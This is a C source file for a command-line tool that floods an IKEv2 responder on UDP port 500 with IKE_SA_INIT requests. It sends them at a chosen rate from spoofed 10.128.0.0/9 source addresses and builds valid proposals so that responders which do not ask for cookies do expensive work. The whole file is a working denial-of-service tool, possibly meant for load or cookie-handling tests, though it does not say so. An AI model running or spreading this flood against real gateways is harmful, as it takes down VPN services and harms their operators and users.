// SPDX-License-Identifier: GPL-2.0
/*
 * flood - IKE_SA_INIT requests from addresses that nobody has
 *
 *   flood ADDRESS RATE SECONDS
 *
 * Sends RATE requests a second to port 500 of ADDRESS, in small bursts, each with
 * a source in 10.128.0.0/9, an SPI and a nonce by chance. All else is as it should
 * be (aes128gcm16-prfsha256-ecp256 and a public value on the curve), so that
 * who does not ask for a cookie does all the work. Prints how many were sent.
 */
#include <arpa/inet.h>
#include <netinet/in.h>
#include <netinet/ip.h>
#include <netinet/udp.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/socket.h>
#include <time.h>
#include <unistd.h>

#define BURST_NS 1000000

/* RFC 7296, section 3: SA, KE and Nonce, behind the header. */
static const uint8_t payloads[] = {
	/* SA: one proposal of IKE with three transforms. */
	0x22, 0x00, 0x00, 0x28,
	0x00, 0x00, 0x00, 0x24, 0x01, 0x01, 0x00, 0x03,
	0x03, 0x00, 0x00, 0x0c, 0x01, 0x00, 0x00, 0x14, 0x80, 0x0e, 0x00, 0x80,
	0x03, 0x00, 0x00, 0x08, 0x02, 0x00, 0x00, 0x05,
	0x00, 0x00, 0x00, 0x08, 0x04, 0x00, 0x00, 0x13,
	/* KE of group 19: the curve's base point. */
	0x28, 0x00, 0x00, 0x48, 0x00, 0x13, 0x00, 0x00,
	0x6b, 0x17, 0xd1, 0xf2, 0xe1, 0x2c, 0x42, 0x47,
	0xf8, 0xbc, 0xe6, 0xe5, 0x63, 0xa4, 0x40, 0xf2,
	0x77, 0x03, 0x7d, 0x81, 0x2d, 0xeb, 0x33, 0xa0,
	0xf4, 0xa1, 0x39, 0x45, 0xd8, 0x98, 0xc2, 0x96,
	0x4f, 0xe3, 0x42, 0xe2, 0xfe, 0x1a, 0x7f, 0x9b,
	0x8e, 0xe7, 0xeb, 0x4a, 0x7c, 0x0f, 0x9e, 0x16,
	0x2b, 0xce, 0x33, 0x57, 0x6b, 0x31, 0x5e, 0xce,
	0xcb, 0xb6, 0x40, 0x68, 0x37, 0xbf, 0x51, 0xf5,
	/* Nonce; its octets follow. */
	0x00, 0x00, 0x00, 0x24,
};

struct request {
	struct iphdr ip;
	struct udphdr udp;
	uint8_t spi_i[8];
	uint8_t spi_r[8];
	uint8_t next;
	uint8_t version;
	uint8_t exchange;
	uint8_t flags;
	uint32_t id;
	uint32_t length;
	uint8_t payloads[sizeof(payloads)];
	uint8_t nonce[32];
} __attribute__((packed));

static void die(const char *what)
{
	perror(what);
	exit(1);
}

static uint64_t chance(void)
{
	static uint64_t x = 0x9e3779b97f4a7c15u;

	x ^= x << 13;
	x ^= x >> 7;
	x ^= x << 17;
	return x;
}

static struct request prepared(struct in_addr to)
{
	struct request r = {
		.ip = {
			.version = 4,
			.ihl = 5,
			.ttl = 64,
			.protocol = IPPROTO_UDP,
			.daddr = to.s_addr,
		},
		.udp = {
			.source = htons(500),
			.dest = htons(500),
			.len = htons(sizeof(r) - sizeof(r.ip)),
		},
		.next = 33,
		.version = 0x20,
		.exchange = 34,
		.flags = 0x08,
		.length = htonl(sizeof(r) - sizeof(r.ip) - sizeof(r.udp)),
	};

	memcpy(r.payloads, payloads, sizeof(payloads));
	return r;
}

static void send_one(int fd, struct request *r, const struct sockaddr_in *to)
{
	uint64_t spi = chance(), nonce = chance();

	r->ip.saddr = htonl(0x0a800000u | (uint32_t)(chance() & 0x7fffff));
	memcpy(r->spi_i, &spi, sizeof(spi));
	memcpy(r->nonce, &nonce, sizeof(nonce));
	if (sendto(fd, r, sizeof(*r), 0, (const struct sockaddr *)to,
		   sizeof(*to)) < 0)
		die("flood: sendto");
}

int main(int argc, char **argv)
{
	struct sockaddr_in to = { .sin_family = AF_INET };
	unsigned long rate, seconds, sent = 0, due;
	struct timespec begin, at;
	struct request r;
	int fd;

	if (argc != 4 || !inet_pton(AF_INET, argv[1], &to.sin_addr)) {
		fputs("usage: flood ADDRESS RATE SECONDS\n", stderr);
		return 2;
	}
	rate = strtoul(argv[2], NULL, 10);
	seconds = strtoul(argv[3], NULL, 10);
	fd = socket(AF_INET, SOCK_RAW, IPPROTO_RAW);
	if (fd < 0)
		die("flood: socket");
	r = prepared(to.sin_addr);
	clock_gettime(CLOCK_MONOTONIC, &begin);
	do {
		struct timespec pause = { .tv_nsec = BURST_NS };

		nanosleep(&pause, NULL);
		clock_gettime(CLOCK_MONOTONIC, &at);
		due = rate * (unsigned long)(at.tv_sec - begin.tv_sec) +
		      (unsigned long)((double)(at.tv_nsec - begin.tv_nsec) *
				      (double)rate / 1e9);
		if (due > rate * seconds)
			due = rate * seconds;
		for (; sent < due; sent++)
			send_one(fd, &r, &to);
	} while (sent < rate * seconds);
	printf("%lu\n", sent);
	return 0;
}
